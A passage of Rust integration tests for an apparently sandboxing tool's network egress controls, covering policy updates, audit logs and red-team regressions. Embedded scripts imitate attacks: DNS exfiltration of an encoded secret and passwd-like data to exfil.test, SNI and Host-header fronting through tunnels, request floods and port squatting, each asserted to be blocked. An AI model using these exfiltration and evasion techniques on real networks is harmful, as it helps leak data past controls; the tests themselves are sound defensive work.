                let _ = self.child.wait();
                break;
            }
            std::thread::sleep(Duration::from_millis(20));
        }
    }
}

/// The service: a sandbox created with a policy, the policy replaced while
/// it runs (PUT .../network), every decision in its audit log; a sandbox
/// without a network cannot be given one, and bad rules are refused.
#[test]
fn service_policy_update_and_audit() {
    let Some(net) = Inet::new() else { return };
    let d = Daemon::start(&net);
    let overrides = [
        format!("www.allowed.test={WWW}"),
        format!("other.test={OTHER}"),
    ];
    let (s, v) = d.req(
        "POST",
        "/v1/sandboxes",
        Some(serde_json::json!({
            "network": {"allow": ["www.allowed.test"], "dns_override": overrides}
        })),
    );
    assert_eq!(s, 201, "{v}");
    let id = serde_json::from_str::<serde_json::Value>(&v).unwrap()["id"]
        .as_str()
        .unwrap()
        .to_string();
    let fetch = |path: &str| {
        d.exec(
            &id,
            &[
                "curl",
                "-sS",
                "-m",
                "10",
                "-w",
                " %{http_code}\n",
                &format!("http://{path}"),
            ],
        )
    };
    assert!(fetch("www.allowed.test/svc-1").starts_with("hello from www path=/svc-1"));
    assert!(fetch("other.test/svc-2").contains("other.test:80 is not allowed"));
    // The new policy: other.test only.
    let (s, b) = d.req(
        "PUT",
        &format!("/v1/sandboxes/{id}/network"),
        Some(serde_json::json!({"allow": ["other.test:80"], "dns_override": overrides})),
    );
    assert_eq!(s, 204, "{b}");
    assert!(fetch("other.test/svc-3").starts_with("hello from other path=/svc-3"));
    assert!(fetch("www.allowed.test/svc-4").contains("www.allowed.test:80 is not allowed"));
    // Bad input, and a sandbox without a network.
    for bad in [
        serde_json::json!({"allow": ["a.*.test"]}),
        serde_json::json!({"allow": ["x.test"], "dns_override": ["x.test=127.1"]}),
        serde_json::json!("none"),
        serde_json::json!({"alow": ["x.test"]}),
    ] {
        let (s, b) = d.req(
            "PUT",
            &format!("/v1/sandboxes/{id}/network"),
            Some(bad.clone()),
        );
        assert!(s == 400 || s == 422, "{bad}: {s} {b}");
    }
    let (s, v) = d.req("POST", "/v1/sandboxes", Some(serde_json::json!({})));
    assert_eq!(s, 201, "{v}");
    let plain = serde_json::from_str::<serde_json::Value>(&v).unwrap()["id"]
        .as_str()
        .unwrap()
        .to_string();
    let (s, b) = d.req(
        "PUT",
        &format!("/v1/sandboxes/{plain}/network"),
        Some(serde_json::json!({"allow": ["www.allowed.test"]})),
    );
    assert_eq!(s, 409, "{b}");
    // The audit: four decisions, with what was decided and why.
    let (s, b) = d.req("GET", &format!("/v1/sandboxes/{id}/audit"), None);
    assert_eq!(s, 200, "{b}");
    let rows: Vec<serde_json::Value> = serde_json::from_str(&b).unwrap();
    let net_rows: Vec<&serde_json::Value> = rows
        .iter()
        .filter(|r| r["kind"] == "net")
        .map(|r| &r["detail"])
        .collect();
    assert_eq!(net_rows.len(), 4, "{b}");
    let find = |host: &str, allowed: bool| {
        net_rows
            .iter()
            .filter(|r| r["host"] == host && r["allowed"] == allowed)
            .count()
    };
    assert_eq!(find("www.allowed.test", true), 1, "{b}");
    assert_eq!(find("other.test", false), 1, "{b}");
    assert_eq!(find("other.test", true), 1, "{b}");
    assert_eq!(find("www.allowed.test", false), 1, "{b}");
    let ok = net_rows
        .iter()
        .find(|r| r["allowed"] == true && r["host"] == "www.allowed.test")
        .unwrap();
    assert_eq!(ok["addr"], WWW, "{ok}");
    assert_eq!(ok["port"], 80);
    assert!(ok["bytes_in"].as_u64().unwrap() > 30, "{ok}");
    assert!(ok["bytes_out"].as_u64().unwrap() > 30, "{ok}");
    assert!(rows.iter().any(|r| r["kind"] == "net-policy"), "{b}");
    let log = net.log();
    assert!(!log.contains("svc-2") && !log.contains("svc-4"), "{log}");
    // The CLI: a sandbox with a policy, and its audit.
    let cli = |args: &[&str]| {
        let o = Command::new(common::bin())
            .env("AIRLOCK_SOCKET", d.dir.path().join("airlock.sock"))
            .args(args)
            .output()
            .unwrap();
        assert!(o.status.success(), "{args:?}: {o:?}");
        String::from_utf8_lossy(&o.stdout).trim().to_string()
    };
    let over = format!("other.test={OTHER}");
    let id2 = cli(&[
        "create",
        "-q",
        "--allow-host",
        "other.test",
        "--dns-override",
        &over,
    ]);
    assert!(d
        .exec(
            &id2,
            &["curl", "-sS", "-m", "10", "http://other.test/cli-1"]
        )
        .starts_with("hello from other path=/cli-1"));
    // A server that never answers nor closes: once the client in the
    // sandbox gives up, the proxy's threads for it end.
    let threads = || {
        std::fs::read_dir(format!("/proc/{}/task", d.child.id()))
            .unwrap()
            .flatten()
            .filter(|t| {
                std::fs::read_to_string(t.path().join("comm"))
                    .is_ok_and(|c| c.starts_with("airlock-egress"))
            })
            .count()
    };
    let out = d.exec(
        &id2,
        &[
            "sh",
            "-c",
            "curl -sS -m 2 http://other.test:8000/held 2>&1; echo rc=$?",
        ],
    );
    assert!(out.contains("rc=28"), "{out}");
    let t = Instant::now();
    while threads() > 0 {
        assert!(
            t.elapsed() < Duration::from_secs(10),
            "{} proxy threads left",
            threads()
        );
        std::thread::sleep(Duration::from_millis(50));
    }
    let audit = cli(&["logs", "--audit", &id2]);
    assert!(
        audit.lines().any(|l| l.contains(r#""kind":"net""#)
            && l.contains(r#""host":"other.test""#)
            && l.contains(r#""allowed":true"#)),
        "{audit}"
    );
}

/// A sandbox that opens connection after connection to the proxy and
/// never sends a request holds at most 256 of them on the host (each is a
/// thread there); the rest are closed at once.
#[test]
fn open_streams_are_capped() {
    let Some(net) = Inet::new() else { return };
    let code = r#"
import socket, select, time
socks = []
for i in range(300):
    s = socket.create_connection(('127.0.0.1', 3128), timeout=5)
    socks.append(s)
time.sleep(2)
closed = 0
for s in socks:
    r, _, _ = select.select([s], [], [], 0)
    if r and s.recv(1) == b'':
        closed += 1
print('closed', closed)
"#;
    let Some((o, took)) = net.airlock(
        Who::Root,
        &[
            "run",
            "--allow-host",
            "www.allowed.test",
            "--",
            "/usr/bin/python3",
            "-c",
            code,
        ],
    ) else {
        return;
    };
    assert_eq!(o.stdout, "closed 44\n", "{o:?}");
    assert!(took < Duration::from_secs(20), "{took:?}");
}

/// Red-team regressions:
/// - an allowed wildcard name that does not exist is looked up as itself
///   only, never with the resolver's search list appended;
/// - `--deny-host NAME` holds in a tunnel opened to an IP literal that
///   names it in its SNI or Host (CONNECT and SOCKS), while the same tunnel
///   naming another host passes;
/// - a flood of refused requests with 60 KB targets stays small in what
///   airlock keeps and prints (`--verbose`: at most 100 denials one by one,
///   a bounded summary).
#[test]
fn red_team_search_list_ip_tunnel_deny_and_flood() {
    let Some(net) = Inet::new() else { return };
    let script = r#"
curl -sS -m 10 -o /dev/null -w 'nx=%{http_code}\n' http://nxname-e2.wild.test/x
curl -sS -m 10 http://93.184.217.7:9999/e3-ip; echo
curl -sS -m 10 http://own.test:9999/e3-name; echo
curl -sS -m 10 -p -x http://127.0.0.1:3128 -H 'Host: www.allowed.test' http://93.184.216.34/e4-connect-denied; echo "connect-denied=$?"
curl -sS -m 10 -p -x http://127.0.0.1:3128 -H 'Host: other.test' http://93.184.216.34/e4-connect-other; echo "connect-other=$?"
/usr/bin/python3 - <<'PY'
import socket, ssl, struct
def socks_tls(sni):
    s = socket.create_connection(('127.0.0.1', 1080), timeout=10)
    s.sendall(b'\x05\x01\x00'); s.recv(2)
    s.sendall(b'\x05\x01\x00\x01' + socket.inet_aton('93.184.216.34') + struct.pack('!H', 443))
    s.recv(10)
    ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
    try:
        t = ctx.wrap_socket(s, server_hostname=sni)
        t.sendall(f'GET /e4-socks-{sni} HTTP/1.0\r\nHost: {sni}\r\n\r\n'.encode())
        return 'reached' if t.recv(100) else 'closed'
    except (OSError, ssl.SSLError) as e:
        return 'failed ' + type(e).__name__
print('socks-denied', socks_tls('www.allowed.test'))
print('socks-other', socks_tls('other.test'))
n = 0
for i in range(2000):
    c = socket.create_connection(('127.0.0.1', 3128), timeout=10)
    c.sendall(b'GET /' + str(i).encode() + b'A' * 60000 + b' HTTP/1.1\r\n\r\n')
    if c.recv(12).startswith(b'HTTP/1.1 400'):
        n += 1
    c.close()
print('flood-refused', n)
PY
"#;
    let Some((o, _)) = net.airlock(
        Who::Root,
        &[
            "run",
            "--verbose",
            "--net",
            "all",
            "--deny-host",
            "www.allowed.test",
            "--dns-override",
            "own.test=93.184.217.7",
            "--",
            "sh",
            "-c",
            script,
        ],
    ) else {
        return;
    };
    let log = net.log();
    // The host's own address, in a public range, by IP and by name: refused
    // like its loopback (and the service on every interface not reached).
    assert!(
        o.stdout
            .contains("93.184.217.7:9999 is an address of this host"),
        "{o:?}"
    );
    assert!(
        o.stdout.contains("own.test resolves to 93.184.217.7")
            || o.stdout.matches("is an address of this host").count() >= 2,
        "{o:?}"
    );
    assert!(!log.contains("e3-"), "{log}");
    // The wildcard name was looked up (--net all), as itself only.
    assert!(log.contains("nxname-e2"), "{log}\n{o:?}");
    assert!(!log.contains("corp"), "the search list was applied: {log}");
    assert!(o.stdout.contains("nx=502"), "{o:?}");
    // IP-literal tunnels naming the denied host end; another name passes.
    assert!(!log.contains("e4-connect-denied"), "{log}");
    assert!(!log.contains("e4-socks-www.allowed.test"), "{log}");
    assert!(!o.stdout.contains("connect-denied=0"), "{o:?}");
    assert!(log.contains("e4-connect-other"), "{log}\n{o:?}");
    assert!(log.contains("e4-socks-other.test"), "{log}\n{o:?}");
    assert!(o.stdout.contains("socks-other reached"), "{o:?}");
    assert!(!o.stdout.contains("socks-denied reached"), "{o:?}");
    assert!(
        o.stderr
            .contains("(named inside the tunnel) is denied by --deny-host"),
        "{o:?}"
    );
    // The flood: every request refused, and what airlock printed of it is
    // small (a 60 KB host each time, before).
    assert!(o.stdout.contains("flood-refused 2000"), "{o:?}");
    let lines = o
        .stderr
        .lines()
        .filter(|l| l.contains("egress denied"))
        .count();
    assert!(lines <= 100, "{lines} denial lines");
    assert!(
        o.stderr
            .contains("more denials; the rest are in the summary"),
        "{}",
        &o.stderr[..o.stderr.len().min(2000)]
    );
    assert!(
        o.stderr.len() < 400 * 1024,
        "stderr is {} bytes",
        o.stderr.len()
    );
    assert!(
        o.stderr.lines().all(|l| l.len() < 2048),
        "a line over 2 KiB in: {}",
        &o.stderr[..o.stderr.len().min(2000)]
    );
}

/// The host's own address is reachable with a CIDR rule naming it (and only
/// that port).
#[test]
fn host_address_needs_a_cidr_rule() {
    let Some(net) = Inet::new() else { return };
    let Some((o, _)) = net.airlock(
        Who::Root,
        &[
            "run",
            "--allow-host",
            &format!("{HOST_PUBLIC}/32:9999"),
            "--",
            "sh",
            "-c",
            &format!(
                "curl -sS -m 10 http://{HOST_PUBLIC}:9999/e3-allowed; echo; \\
                 curl -sS -m 10 http://{HOST_PUBLIC}:8081/e3-other-port; echo"
            ),
        ],
    ) else {
        return;
    };
    assert!(
        o.stdout.contains("hello from host-any path=/e3-allowed"),
        "{o:?}"
    );
    assert!(!net.log().contains("e3-other-port"), "{}", net.log());
}

// ----------------------------------------------------------------------
// Transparent mode: programs that ignore the proxy variables.

/// The shell preamble that removes every proxy setting airlock made.
const NO_PROXY_ENV: &str = "unset HTTP_PROXY http_proxy HTTPS_PROXY https_proxy ALL_PROXY all_proxy NO_PROXY no_proxy npm_config_proxy npm_config_https_proxy PIP_PROXY CARGO_HTTP_PROXY GIT_CONFIG_COUNT GIT_CONFIG_KEY_0 GIT_CONFIG_VALUE_0\n";

/// Without any proxy variable, an allowed name works over HTTP and HTTPS
/// (curl, Python's urllib with proxies off): the sandbox's DNS stub
/// answers it from the pool and the agent tunnels the connection by name
/// through the host's proxy, which checks and audits it as any other. A
/// name that is not allowed does not resolve, at once; a connection to
/// the allowed name's address that claims another name in its SNI or Host
/// header is refused by the proxy.
#[test]
fn transparent_mode_without_proxy_variables() {
    let Some(net) = Inet::new() else { return };
    let certs = format!("{}:/certs:ro", net.certs().display());
    for who in [Who::Root, Who::User] {
        let script = format!(
            r#"{NO_PROXY_ENV}
set -u
env | grep -i proxy || echo "no proxy variables"
cat /etc/resolv.conf
curl -sS -m 10 --noproxy '*' http://www.allowed.test/t-curl
curl -sS -m 10 --noproxy '*' --cacert /certs/ca.pem https://www.allowed.test/t-curl-tls
/usr/bin/python3 - <<'PYEOF'
import socket, ssl, urllib.request
o = urllib.request.build_opener(urllib.request.ProxyHandler({{}}))
print(o.open("http://www.allowed.test/t-py", timeout=10).read().decode(), end="")
ctx = ssl.create_default_context(cafile="/certs/ca.pem")
o = urllib.request.build_opener(urllib.request.ProxyHandler({{}}), urllib.request.HTTPSHandler(context=ctx))
print(o.open("https://www.allowed.test/t-py-tls", timeout=10).read().decode(), end="")
print("addr", socket.gethostbyname("www.allowed.test"))
PYEOF
start=$(date +%s%N)
curl -sS -m 10 --noproxy '*' http://other.test/denied 2>&1; echo "curl-denied=$?"
end=$(date +%s%N)
echo "denied-ms=$(( (end - start) / 1000000 ))"
getent hosts other.test; echo "getent-other=$?"
# The allowed name's address, another name in SNI / Host: the proxy says no.
a=$(getent ahostsv4 www.allowed.test | head -n1 | cut -d' ' -f1)
echo "pool-addr=$a"
curl -sS -m 10 --noproxy '*' --cacert /certs/ca.pem --resolve other.test:443:$a https://other.test/sni-fronted 2>&1; echo "sni-other=$?"
curl -sS -m 10 --noproxy '*' -H 'Host: other.test' http://$a/host-fronted 2>&1; echo "host-other=$?"
"#
        );
        let Some((o, _)) = net.airlock(
            who,
            &[
                "run",
                "--verbose",
                "--allow-host",
                "www.allowed.test",
                "--dns-override",
                &format!("www.allowed.test={WWW}"),
                "--dns-override",
                &format!("other.test={OTHER}"),
                "--mount",
                &certs,
                "--",
                "sh",
                "-c",
                &script,
            ],
        ) else {
            continue;
        };
        assert_eq!(o.code, 0, "{who:?}: {o:?}");
        let s = &o.stdout;
        assert!(s.contains("no proxy variables"), "{o:?}");
        assert!(s.contains("nameserver 127.0.0.1"), "{o:?}");
        for want in [
            "hello from www path=/t-curl\n",
            "hello from www-tls path=/t-curl-tls\n",
            "hello from www path=/t-py\n",
            "hello from www-tls path=/t-py-tls\n",
            "addr 198.18.0.1\n",
            "pool-addr=198.18.0.1\n",
        ] {
            assert!(s.contains(want), "{who:?}: {want:?} missing: {o:?}");
        }
        assert!(s.contains("Could not resolve host: other.test"), "{o:?}");
        assert!(s.contains("curl-denied=6"), "{o:?}");
        assert!(s.contains("getent-other=2"), "{o:?}");
        let ms: u64 = s
            .split("denied-ms=")
            .nth(1)
            .and_then(|r| r.split_whitespace().next())
            .and_then(|n| n.parse().ok())
            .unwrap();
        assert!(ms < 2000, "a denied name took {ms} ms to fail: {o:?}");
        assert!(!s.contains("sni-fronted\n"), "{o:?}");
        assert!(!s.contains("sni-other=0"), "{o:?}");
        assert!(!s.contains("host-fronted\n"), "{o:?}");
        assert!(!s.contains("host-other=0"), "{o:?}");
        // The host's proxy decided each, as for a proxy-aware client.
        assert!(
            o.stderr.contains("allowed www.allowed.test:443 x2"),
            "{o:?}"
        );
        assert!(o.stderr.contains("allowed www.allowed.test:80 x2"), "{o:?}");
        assert!(o.stderr.contains("denied  www.allowed.test:"), "{o:?}");
    }
    let log = net.log();
    assert!(!log.contains("other"), "a denied host was reached: {log}");
    assert!(
        !log.contains("dns packet"),
        "something asked a resolver: {log}"
    );
    assert!(
        log.contains("www GET /t-curl host=www.allowed.test"),
        "{log}"
    );
    assert!(
        log.contains("www-tls GET /t-py-tls host=www.allowed.test"),
        "{log}"
    );
}

/// DNS exfiltration in transparent mode: queries for names that are not
/// allowed (A, AAAA, TXT, data in long labels, through glibc, dig and raw
/// UDP) are answered NXDOMAIN inside and never reach a resolver; the
/// outside resolver cannot be asked directly (UDP or TCP); raw
/// connections to a server's real address, to a pool address never handed
/// out, and to an allowed name's address on a port not caught all fail.
#[test]
fn transparent_mode_dns_exfiltration_and_raw_paths_go_nowhere() {
    let Some(net) = Inet::new() else { return };
    if !Path::new("/usr/bin/dig").exists() {
        common::skip("/usr/bin/dig is missing (run scripts/setup.sh)");
        return;
    }
    for who in [Who::Root, Who::User] {
        let script = format!(
            r#"{NO_PROXY_ENV}
set -u
secret=c2VjcmV0LWRhdGEtZXhmaWx0cmF0ZWQtdGhyb3VnaC1kbnMtbGFiZWxz
for t in A AAAA TXT MX ANY; do
  echo "stub-$t: $(dig +time=2 +tries=1 @127.0.0.1 $t $secret.exfil.test | grep -o 'status: [A-Z]*')"
done
echo "stub-long: $(dig +time=2 +tries=1 @127.0.0.1 TXT $secret.$secret.$secret.exfil.test | grep -o 'status: [A-Z]*')"
echo "stub-allowed-AAAA: $(dig +time=2 +tries=1 @127.0.0.1 AAAA www.allowed.test | grep -o 'status: [A-Z]*') answers=$(dig +short @127.0.0.1 AAAA www.allowed.test | wc -l)"
echo "stub-allowed-A: $(dig +short +time=2 +tries=1 @127.0.0.1 A www.allowed.test)"
getent hosts $secret.exfil.test; echo "getent=$?"
dig +time=2 +tries=1 @{DNS} TXT $secret.direct.test >/dev/null 2>&1; echo "dig-direct=$?"
dig +tcp +time=2 +tries=1 @{DNS} TXT $secret.direct-tcp.test >/dev/null 2>&1; echo "dig-direct-tcp=$?"
/usr/bin/python3 - <<'PYEOF'
import socket, struct
def q(name, qtype):
    h = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
    b = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
    return h + b + struct.pack(">HH", qtype, 1)
def rcode(name, qtype):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    s.sendto(q(name, qtype), ("127.0.0.1", 53))
    d = s.recv(1500)
    return d[3] & 15, struct.unpack(">H", d[6:8])[0]
label = "a" * 63
print("raw-txt", rcode(f"{{label}}.{{label}}.exfil.test", 16))
print("raw-a", rcode("pwd-root-x-0-0.exfil.test", 1))
print("raw-ip-literal", rcode("93.184.216.53", 1))
for what, typ, addr in [
    ("udp-resolver", socket.SOCK_DGRAM, ("{DNS}", 53)),
    ("tcp-server-ip", socket.SOCK_STREAM, ("{WWW}", 80)),
    ("tcp-pool-unused", socket.SOCK_STREAM, ("198.18.3.7", 443)),
    ("tcp-pool-other-port", socket.SOCK_STREAM, ("198.18.0.1", 8000)),
]:
    s = socket.socket(socket.AF_INET, typ)
    s.settimeout(3)
    try:
        if typ == socket.SOCK_DGRAM:
            s.sendto(q("udp.exfil.test", 16), addr)
            s.recv(100)
        else:
            s.connect(addr)
        print(what, "open")
    except OSError as e:
        print(what, "errno", e.errno)
try:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    print("icmp socket open")
except OSError as e:
    print("icmp errno", e.errno)
PYEOF
"#
        );
        let Some((o, _)) = net.airlock(
            who,
            &[
                "run",
                "--allow-host",
                "www.allowed.test",
                "--dns-override",
                &format!("www.allowed.test={WWW}"),
                "--",
                "sh",
                "-c",
                &script,
            ],
        ) else {
            continue;
        };
        assert_eq!(o.code, 0, "{who:?}: {o:?}");
        let s = &o.stdout;
        for t in ["A", "AAAA", "TXT", "MX", "ANY"] {
            assert!(
                s.contains(&format!("stub-{t}: status: NXDOMAIN")),
                "{who:?} {t}: {o:?}"
            );
        }
        assert!(s.contains("stub-long: status: NXDOMAIN"), "{o:?}");
        assert!(
            s.contains("stub-allowed-AAAA: status: NOERROR answers=0"),
            "{o:?}"
        );
        assert!(s.contains("stub-allowed-A: 198.18.0.1"), "{o:?}");
        assert!(s.contains("getent=2"), "{o:?}");
        // dig: 9 when no server answers (or the network is unreachable).
        assert!(!s.contains("dig-direct=0"), "{o:?}");
        assert!(!s.contains("dig-direct-tcp=0"), "{o:?}");
        assert!(s.contains("raw-txt (3, 0)"), "{o:?}");
        assert!(s.contains("raw-a (3, 0)"), "{o:?}");
        assert!(s.contains("raw-ip-literal (3, 0)"), "{o:?}");
        // ENETUNREACH: no route but lo's.
        assert!(s.contains("udp-resolver errno 101"), "{o:?}");
        assert!(s.contains("tcp-server-ip errno 101"), "{o:?}");
        // ECONNREFUSED: local, nothing listens.
        assert!(s.contains("tcp-pool-unused errno 111"), "{o:?}");
        assert!(s.contains("tcp-pool-other-port errno 111"), "{o:?}");
        assert!(!s.contains("icmp socket open"), "{o:?}");
    }
    let log = net.log();
    assert!(
        !log.contains("dns packet"),
        "a query reached the outside resolver: {log}"
    );
    assert!(!log.contains("exfil"), "{log}");
    assert!(!log.contains("GET"), "a server was reached: {log}");
    // Airlock changed the sandbox's namespace only: where it ran (the
    // test's "host" namespace) has neither the pool's route nor a lower
    // privileged-port bound.
    let out = |args: &[&str]| {
        let o = Command::new("ip").args(args).output().unwrap();
        String::from_utf8_lossy(&o.stdout).into_owned()
    };
    let bound = out(&[
        "netns",
        "exec",
        &net.ns,
        "cat",
        "/proc/sys/net/ipv4/ip_unprivileged_port_start",
    ]);
    assert_eq!(bound.trim(), "1024");
    let local = out(&["-n", &net.ns, "route", "show", "table", "local"]);
    assert!(!local.contains("198.18"), "{local}");
    assert!(!out(&["route", "show", "table", "local"]).contains("198.18"));
}

/// `--net all`: the stub answers every name but the denied ones, each
/// with an address of its own that stays the same; it stops handing out
/// addresses after 256 names (SERVFAIL), and still asks no resolver.
#[test]
fn transparent_mode_net_all_denials_stability_and_cap() {
    let Some(net) = Inet::new() else { return };
    for who in [Who::Root, Who::User] {
        let script = r#"
/usr/bin/python3 - <<'PYEOF'
import socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(3)
def ask(name, qtype=1):
    h = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0)
    b = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
    s.sendto(h + b + struct.pack(">HH", qtype, 1), ("127.0.0.1", 53))
    d = s.recv(1500)
    rc, an = d[3] & 15, struct.unpack(">H", d[6:8])[0]
    return rc, (socket.inet_ntoa(d[-4:]) if an else None)
print("denied", ask("x.exfil.test"))
print("denied-apex", ask("exfil.test"))
addrs = [ask(f"n{i}.ok.test") for i in range(300)]
ok = [a for rc, a in addrs if rc == 0]
print("ok", len(ok), "distinct", len(set(ok)), "servfail", sum(1 for rc, _ in addrs if rc == 2))
print("first", addrs[0][1], "again", ask("n0.ok.test")[1], "last-ok", ok[-1])
PYEOF
"#;
        let Some((o, _)) = net.airlock(
            who,
            &[
                "run",
                "--net",
                "all",
                "--deny-host",
                "*.exfil.test",
                "--deny-host",
                "exfil.test",
                "--",
                "sh",
                "-c",
                script,
            ],
        ) else {
            continue;
        };
        assert_eq!(o.code, 0, "{who:?}: {o:?}");
        let s = &o.stdout;
        assert!(s.contains("denied (3, None)"), "{o:?}");
        assert!(s.contains("denied-apex (3, None)"), "{o:?}");
        assert!(s.contains("ok 256 distinct 256 servfail 44"), "{o:?}");
        assert!(
            s.contains("first 198.18.0.1 again 198.18.0.1 last-ok 198.18.1.0"),
            "{o:?}"
        );
    }
    let log = net.log();
    assert!(!log.contains("dns packet"), "{log}");
}

/// Transparent mode in the microVM tier: the guest (no NIC at all) runs
/// the same agent as its /init, with the same stub and pool. Without proxy
/// variables an allowed name works over HTTP and HTTPS; a name that is not
/// allowed gets NXDOMAIN and its queries reach no resolver.
#[test]
fn transparent_mode_in_a_microvm() {
    let Some(net) = Inet::new() else { return };
    // No mounts in a microVM yet: the CA travels in the environment.
    let ca = std::fs::read_to_string(net.certs().join("ca.pem")).unwrap();
    let ca_env = format!("CA_PEM={ca}");
    let script = format!(
        r#"{NO_PROXY_ENV}
set -u
printf '%s' "$CA_PEM" >/tmp/ca.pem
curl -sS -m 20 --noproxy '*' http://www.allowed.test/vm-curl
curl -sS -m 20 --noproxy '*' --cacert /tmp/ca.pem https://www.allowed.test/vm-curl-tls
getent hosts leak-from-the-guest.exfil.test; echo "getent=$?"
echo "stub-TXT: $(dig +time=3 +tries=1 @127.0.0.1 TXT leak-txt-from-the-guest.exfil.test | grep -o 'status: [A-Z]*')"
dig +time=2 +tries=1 @{DNS} TXT leak-direct-from-the-guest.test >/dev/null 2>&1; echo "dig-direct=$?"
curl -sS -m 5 --noproxy '*' http://{WWW}/raw-ip 2>&1; echo "raw-ip=$?"
"#
    );
    let Some((o, _)) = net.airlock(
        Who::Root,
        &[
            "run",
            "--isolation",
            "microvm",
            "--allow-host",
            "www.allowed.test",
            "--dns-override",
            &format!("www.allowed.test={WWW}"),
            "--env",
            &ca_env,
            "--",
            "sh",
            "-c",
            &script,
        ],
    ) else {
        return;
    };
    assert_eq!(o.code, 0, "{o:?}");
    let s = &o.stdout;
    assert!(s.contains("hello from www path=/vm-curl\n"), "{o:?}");
    assert!(
        s.contains("hello from www-tls path=/vm-curl-tls\n"),
        "{o:?}"
    );
    assert!(s.contains("getent=2"), "{o:?}");
    assert!(s.contains("stub-TXT: status: NXDOMAIN"), "{o:?}");
    assert!(!s.contains("dig-direct=0"), "{o:?}");
    assert!(!s.contains("raw-ip=0"), "{o:?}");
    let log = net.log();
    assert!(!log.contains("dns packet"), "{log}");
    assert!(!log.contains("leak"), "{log}");
    assert!(!log.contains("raw-ip"), "{log}");
    assert!(
        log.contains("www GET /vm-curl host=www.allowed.test"),
        "{log}"
    );
}

/// A process of the sandbox that holds a caught port on every address
/// (bound to 0.0.0.0 first) cannot make the agent loop over the pool: the
/// lookup fails at once (SERVFAIL after a few addresses), and works again
/// once the port is free.
#[test]
fn transparent_mode_port_squatting_fails_fast() {
    let Some(net) = Inet::new() else { return };
    for who in [Who::Root, Who::User] {
        let script = r#"
/usr/bin/python3 - <<'PYEOF'
import socket, time
sq = socket.socket()
sq.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
sq.bind(("0.0.0.0", 8443))
sq.listen(1)
t = time.monotonic()
try:
    print("squatted", socket.gethostbyname("www.allowed.test"))
except OSError as e:
    print("squatted-failed", type(e).__name__)
print("squatted-ms", int((time.monotonic() - t) * 1000))
sq.close()
print("free", socket.gethostbyname("www.allowed.test"))
PYEOF
"#;
        let Some((o, _)) = net.airlock(
            who,
            &[
                "run",
                "--allow-host",
                "www.allowed.test:8443",
                "--allow-host",
                "www.allowed.test:443",
                "--",
                "sh",
                "-c",
                script,
            ],
        ) else {
            continue;
        };
        assert_eq!(o.code, 0, "{who:?}: {o:?}");
        let s = &o.stdout;
        assert!(s.contains("squatted-failed"), "{o:?}");
        let ms: u64 = s
            .split("squatted-ms ")
            .nth(1)
            .and_then(|r| r.split_whitespace().next())
            .and_then(|n| n.parse().ok())
            .unwrap();
        assert!(ms < 3000, "the lookup took {ms} ms: {o:?}");
        // The addresses tried were not used up.
        assert!(s.contains("free 198.18.0.1\n"), "{o:?}");
    }
}

/// A wildcard rule in transparent mode: a name below it resolves (from
/// the pool) and works over HTTPS without proxy variables; the apex does
/// not resolve (`*.` does not match it).
#[test]
fn transparent_mode_wildcard_rule() {
    let Some(net) = Inet::new() else { return };
    let certs = format!("{}:/certs:ro", net.certs().display());
    for who in [Who::Root, Who::User] {
        let script = format!(
            r#"{NO_PROXY_ENV}
curl -sS -m 10 --noproxy '*' --cacert /certs/ca.pem https://a.wild.test/wild-tls
getent hosts wild.test; echo "apex=$?"
"#
        );
        let Some((o, _)) = net.airlock(
            who,
            &[
                "run",
                "--allow-host",
                "*.wild.test",
                "--dns-override",
                &format!("a.wild.test={WWW}"),
                "--mount",
                &certs,
                "--",
                "sh",
                "-c",
                &script,
            ],
        ) else {
            continue;
        };
        assert_eq!(o.code, 0, "{who:?}: {o:?}");
        assert!(
            o.stdout.contains("hello from www-tls path=/wild-tls\n"),
            "{o:?}"
        );
        assert!(o.stdout.contains("apex=2"), "{o:?}");
    }
    assert!(!net.log().contains("dns packet"), "{}", net.log());
}

/// The microVM tier under the same policy: the guest has no NIC, and
/// its one way out is the agent's tunnel to the host's proxy. An allowed
/// name is reached (over HTTP and, through CONNECT, HTTPS), another is
/// refused by the proxy with its reason, and the server never sees it.
#[test]
fn allowed_names_work_from_a_microvm() {
    let Some(net) = Inet::new() else { return };
    let certs = format!("{}:/certs:ro", net.certs().display());
    let script = r#"
uname -r
curl -sS -m 60 http://www.allowed.test/ok-vm
curl -sS -m 60 --cacert /certs/ca.pem https://www.allowed.test/ok-vm-tls
code=$(curl -sS -m 60 -o /tmp/denied -w '%{http_code}' http://other.test/denied-vm)
echo "denied-code=$code"
cat /tmp/denied
"#;
    let Some(inner) = common::airlock(Who::Root) else {
        return;
    };
    let mut c = Command::new("ip");
    c.args(["netns", "exec", &net.ns])
        .arg(inner.get_program())
        .args(inner.get_args())
        .args([
            "run",
            "--isolation",
            "microvm",
            "--allow-host",
            "www.allowed.test",
            "--dns-override",
            &format!("www.allowed.test={WWW}"),
            "--dns-override",
            &format!("other.test={OTHER}"),
            "--mount",
            &certs,
            "--",
            "sh",
            "-c",
            script,
        ])
        .env_clear()
        .current_dir("/")
        .stdin(Stdio::null());
    for (k, v) in inner.get_envs() {
        if let Some(v) = v {
            c.env(k, v);
        }
    }
    // A first microVM run may have to make the template (minutes under
    // TCG on a busy host).
    let (o, _) = bounded(c, Duration::from_secs(600));
    assert_eq!(o.code, 0, "{o:?}");
    let s = &o.stdout;
    assert!(
        s.lines().next().unwrap_or("").ends_with("-cloud-amd64"),
        "{o:?}"
    );
    assert!(s.contains("hello from www path=/ok-vm\n"), "{o:?}");
    assert!(s.contains("hello from www-tls path=/ok-vm-tls\n"), "{o:?}");
    assert!(s.contains("denied-code=403"), "{o:?}");
    assert!(
        s.contains("airlock egress: other.test:80 is not allowed"),
        "{o:?}"
    );
    let log = net.log();
    assert!(!log.contains("other"), "a denied host was reached: {log}");
    assert!(
        log.contains("www GET /ok-vm host=www.allowed.test"),
        "{log}"
    );
}
